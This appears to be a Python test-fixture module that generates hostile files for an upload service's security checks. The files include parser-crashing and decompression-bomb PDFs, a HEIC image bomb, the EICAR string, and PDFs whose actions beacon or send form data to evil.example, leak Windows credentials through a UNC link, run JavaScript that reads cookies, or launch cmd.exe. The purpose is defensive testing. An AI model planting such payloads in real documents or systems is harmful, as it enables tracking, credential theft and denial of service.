"""Hostile files for the upload checks, made in memory (raw PDF bytes or pypdf's writer).

The four PDFs that crashed pypdf's reader (answered 500 before) and the PDFs that act on their own or
reach outside the file. One binary is kept on disk, because making it takes 36 s: see HEIC_BOMB.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.constants import UserAccessPermissions
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

# 15,670 bytes that decode to 8192 x 8192 (67 megapixels, ~200 MB of RGB). Made once with:
#   pillow_heif.from_pillow(Image.new("RGB", (8192, 8192), "white")).save(out, quality=10)
# (pillow-heif 1.8.1; 36 s on this machine, too slow to make in each run).
HEIC_BOMB = Path(__file__).parent / "fixtures" / "heic_8192x8192.heic"

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# The English reasons, word for word as consult/files.py gives them.
TOO_COMPLEX = (
    "This PDF is built in a way that cannot be checked safely (too deeply nested, too large once unpacked, "
    "or with overlong parts). Please print it to a new PDF, or send photos of its pages."
)
UNSUPPORTED = (
    "This PDF uses a kind of protection or a feature that cannot be checked. Please save or print it to a "
    "new PDF without protection and upload that copy."
)
PICTURE_TOO_COMPLEX = (
    "The picture takes too long or too much memory to process. Please send a smaller photo or a screenshot."
)
SCANNER_DOWN = (
    "The virus scanner is unavailable right now, so the file was not kept. Please try again in a few minutes."
)

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def raw_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def deep_page_tree(depth: int = 150) -> bytes:
    """Pages nested 150 deep (pypdf stops at 100)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = 2 + level
        parent = b" /Parent %d 0 R" % (number - 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (number + 1, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1))
    return raw_pdf(objects)


def object_stream_bomb(megabytes: int = 300) -> bytes:
    """The only page lives in an object stream that inflates to 300 MB (300 KB compressed)."""
    header = b"3 0 "
    packer = zlib.compressobj(9)
    packed = packer.compress(header + PAGE + b" ")
    blank = b" " * (1 << 20)
    packed += b"".join(packer.compress(blank) for _ in range(megabytes)) + packer.flush()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {1: len(out)}
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    at[2] = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    at[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    at[5] = len(out)
    rows = [(0, 0, 65535), (1, at[1], 0), (1, at[2], 0), (2, 4, 0), (1, at[4], 0), (1, at[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"5 0 obj\n<< /Type /XRef /W [1 4 2] /Size 6 /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at[5]
    return bytes(out)


def long_name(length: int = 100_000) -> bytes:
    """A page carrying a /Name of 100,000 characters."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /X /" + b"A" * length + b" >>"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])


def unknown_encryption() -> bytes:
    """/Encrypt with a version (V 9) no reader knows."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
            b"<< /Filter /Standard /V 9 /R 9 /O (x) /U (y) /P -4 >>",
        ],
        trailer=b"/Encrypt 4 0 R /ID [<00> <00>] ",
    )


# --- PDFs that act by themselves or reach outside ------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _with_link(action: DictionaryObject) -> bytes:
    writer = _blank()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
            NameObject("/A"): action,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _write(writer)


def open_action_uri() -> bytes:
    """Opens a web address as soon as the file is opened (tells the sender who read it, and when)."""
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = _action("/URI", URI=TextStringObject("https://evil.example/seen"))
    return _write(writer)


def page_aa_submit_form() -> bytes:
    """Sends the form's contents away when the page opens."""
    writer = _blank()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))}
    )
    return _write(writer)


def gotor_unc() -> bytes:
    """A link to \\\\evil\\share\\x.pdf: opening it hands Windows credentials to that server."""
    destination = ArrayObject([NumberObject(0), NameObject("/Fit")])
    return _with_link(_action("/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"), D=destination))


def import_data() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = _action("/ImportData", F=TextStringObject("data.fdf"))
    return _write(writer)


def javascript_name_tree() -> bytes:
    writer = _blank()
    script = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _write(writer)


def javascript_link() -> bytes:
    return _with_link(_action("/URI", URI=TextStringObject("javascript:alert(document.cookie)")))


def launch() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = _action("/Launch", F=TextStringObject("cmd.exe"))
    return _write(writer)


def plain_with_web_link_and_start_page() -> bytes:
    """What hospital PDFs do: open at the first page, a link to the hospital's site. Accepted."""
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [
            writer._add_object(
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/Link"),
                        NameObject("/Rect"): ArrayObject(
                            [FloatObject(0), FloatObject(0), FloatObject(9), FloatObject(9)]
                        ),
                        NameObject("/A"): _action("/URI", URI=TextStringObject("https://hospital.example/")),
                    }
                )
            )
        ]
    )
    return _write(writer)


def encrypted(*, user_password: str, title: str = "Report") -> bytes:
    writer = _blank()
    writer.add_metadata({"/Title": title})
    writer.encrypt(
        user_password=user_password,
        owner_password="owner-secret",
        algorithm="AES-128",
        permissions_flag=UserAccessPermissions(0),
    )
    return _write(writer)


def pdf_with_eicar() -> bytes:
    """A genuine PDF whose page content carries the EICAR test string (as a comment, uncompressed):
    any virus scanner reports it."""
    content = b"% " + EICAR + b"\n"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        ]
    )


def pdf_with_phone_photo(photo: bytes, *, width: int = 64, height: int = 48) -> bytes:
    """A scan made on a phone: its JPEG (with the EXIF it came with) drawn on the page as is."""
    draw = b"q %d 0 0 %d 100 700 cm /Im1 Do Q" % (width, height)
    image = b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB " % (width, height)
    image += b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream" % (len(photo), photo)
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> "
            b"/Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(draw), draw),
            image,
        ]
    )


@functools.cache
def slow_picture() -> bytes:
    """A PNG of 49 megapixels (under the 50-megapixel limit), 0.6 MB sent: ~150 MB once decoded, and
    seconds to decode and re-encode. Made once per run (a second here)."""
    out = io.BytesIO()
    Image.new("RGB", (7000, 7000)).save(out, format="PNG", compress_level=1)
    return out.getvalue()
